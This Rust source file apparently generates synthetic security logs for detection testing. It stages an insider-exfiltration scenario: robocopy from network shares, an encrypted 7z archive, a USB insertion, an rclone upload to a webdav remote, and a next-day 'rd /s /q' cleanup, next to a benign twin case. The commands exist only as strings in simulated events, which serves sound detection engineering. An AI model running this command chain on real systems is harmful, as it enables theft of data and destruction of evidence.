//! AT-36: a technician gathers the shared projects on a PC, packs them, carries them out on a stick
//! and over the line, and clears up the next day.

use std::net::IpAddr;

use super::{Attack, Entity, Facts, Family, Planted};
use crate::clock::{HOUR_MS, MINUTE_MS, SECOND_MS};
use crate::devices::fortigate::{self, Flow, Verdict};
use crate::devices::samba;
use crate::devices::windows::EventLog;
use crate::devices::windows_events::{self as events, Process};
use crate::devices::windows_security as security;
use crate::people::Office;
use crate::story::Stage;
use crate::words::{DOCUMENTS, EXTENSIONS};

/// The scenario.
pub(crate) struct StagedDocuments;

const ROBOCOPY: &str = r"C:\Windows\System32\Robocopy.exe";
const SEVEN_ZIP: &str = r"C:\Program Files\7-Zip\7z.exe";
const SHARES: [&str; 4] = ["Tecnico/progetti", "Tecnico/cantieri", "Tecnico/suap", "Segreteria/contratti"];

impl Attack for StagedDocuments {
    fn facts(&self) -> Facts {
        Facts {
            number: 36,
            family: Family::Database,
            title_en: "Documents staged from the storage and carried out on a stick",
            title_it: "Documenti raccolti dai dischi di rete e portati fuori su chiavetta",
            office: Some(Office::Technical),
        }
    }

    fn plant(&self, stage: &mut Stage<'_>) -> Planted {
        let (town, person) = (stage.town, stage.person());
        let computer = town.pc_of(person);
        let next_day_ms = stage.rng.between(14 * HOUR_MS, 26 * HOUR_MS).min(stage.window_ms() / 4);
        let start_ms = stage
            .start_where(next_day_ms + 5 * HOUR_MS, |day, hour| day.is_working() && (13..19).contains(&hour));
        let folder =
            stage.rng.pick(&[r"C:\Users\Public\Documents\arch", r"D:\bozze", r"C:\Temp\upd", r"D:\_tmp"]);
        let remote = stage.rng.pick(&["mia", "drive", "box2", "casa"]);
        let rclone = stage.rng.pick(&[r"C:\Users\Public\rclone.exe", r"D:\strumenti\rclone.exe"]);
        let command = format!("rclone.exe config create {remote} webdav");
        start(stage, &computer, start_ms, rclone, &command);
        let at_ms = start_ms + stage.minutes(5, 25);
        let share = stage.rng.pick(&SHARES);
        let count = stage.rng.count(150, 260);
        let at_ms = gather(stage, at_ms, (&computer, folder), share, count);
        let at_ms = at_ms + stage.minutes(2, 12);
        let password = stage.rng.size(1_000, 99_999);
        let command = format!("7z.exe a -mhe=on -pGara{password} {folder}.7z {folder}");
        start(stage, &computer, at_ms, SEVEN_ZIP, &command);
        let at_ms = at_ms + stage.minutes(6, 30);
        let device = stage.rng.pick(&["DataTraveler_3.0", "Ultra_Fit", "Flash_Drive"]);
        let log = EventLog::of_pc(town, &computer);
        security::device_connected(&mut stage.lines, town, &log, at_ms, person, device);
        let at_ms = at_ms + stage.minutes(4, 40);
        let command = format!("rclone.exe copy {folder}.7z {remote}:x --transfers 2");
        start(stage, &computer, at_ms, rclone, &command);
        upload(stage, at_ms + 20 * SECOND_MS, rclone);
        let command = format!("cmd.exe /c rd /s /q {folder} & del {folder}.7z");
        start(stage, &computer, at_ms + next_day_ms, r"C:\Windows\System32\cmd.exe", &command);
        let entity = Entity::default()
            .with("user_name", &person.login)
            .with("source_ip", person.ip)
            .with("host_name", &computer)
            .with("host_name", &person.pc);
        Planted { entity, detections: vec!["DB-15", "DB-09"] }
    }

    fn twin(&self, stage: &mut Stage<'_>) -> Entity {
        // The office makes up the material of a tender: fewer files, packed for everybody to open.
        let (town, person) = (stage.town, stage.person());
        let computer = town.pc_of(person);
        let start_ms = stage.start_in_office(2 * HOUR_MS);
        let count = stage.rng.count(30, 70);
        let folder = r"D:\gara_2026";
        let at_ms = gather(stage, start_ms, (&computer, folder), "Tecnico/progetti", count);
        start(
            stage,
            &computer,
            at_ms + 5 * MINUTE_MS,
            SEVEN_ZIP,
            "7z.exe a D:\\gara_2026.zip D:\\gara_2026\\*.pdf",
        );
        Entity::default()
            .with("user_name", &person.login)
            .with("source_ip", person.ip)
            .with("host_name", &computer)
    }
}

/// A program on the person's own PC.
fn start(stage: &mut Stage<'_>, computer: &str, at_ms: i64, image: &str, command: &str) {
    let (town, person) = (stage.town, stage.person());
    let parent = r"C:\Windows\System32\cmd.exe";
    let process = Process { user: &person.login, image, command, parent };
    events::process(&mut stage.lines, town, &EventLog::of_pc(town, computer), at_ms, &process);
}

/// A folder of the share is copied to the PC, file by file; the end of it.
fn gather(
    stage: &mut Stage<'_>,
    start_ms: i64,
    (computer, folder): (&str, &str),
    share: &str,
    count: usize,
) -> i64 {
    let (town, person) = (stage.town, stage.person());
    let source = share.replace('/', r"\");
    let command =
        format!(r"robocopy.exe \\{}\condivisa\{source} {folder} /E /R:0 /W:0", town.hosts.files.name);
    start(stage, computer, start_ms, ROBOCOPY, &command);
    let length_ms = stage.minutes(18, 45);
    for at_ms in stage.spread(start_ms + 2 * SECOND_MS, length_ms, count) {
        let (name, extension) = (stage.rng.pick(&DOCUMENTS), stage.rng.pick(&EXTENSIONS));
        let path = format!("{share}/{name}_{:03}.{extension}", stage.rng.size(1, 900));
        samba::opened(&mut stage.lines, town, at_ms, (person, person.ip), "r", &path);
    }
    start_ms + 2 * SECOND_MS + length_ms
}

/// The archive goes out in a few flows.
fn upload(stage: &mut Stage<'_>, start_ms: i64, image: &str) {
    let (town, person) = (stage.town, stage.person());
    let outside = stage.outsider_v4(0);
    let count = stage.rng.count(2, 4);
    let length_ms = stage.minutes(6, 20);
    for at_ms in stage.spread(start_ms, length_ms, count) {
        let sent = stage.rng.size(90_000_000, 240_000_000);
        let flow = Flow {
            source: (person.ip, stage.rng.port(49_152, 65_000)),
            destination: (outside, 443),
            protocol: 6,
            verdict: Verdict::Close,
            interfaces: ("LAN", "wan1"),
            policy: 21,
            bytes: (sent, sent / 90),
            duration_s: stage.rng.port(60, 400).into(),
        };
        fortigate::traffic(&mut stage.lines, town, at_ms, &flow);
    }
    let computer = town.pc_of(person);
    let log = EventLog::of_pc(town, &computer);
    let (from, to) = (IpAddr::V4(person.ip), (IpAddr::V4(outside), 443));
    events::connection(&mut stage.lines, &log, start_ms, image, from, to);
}
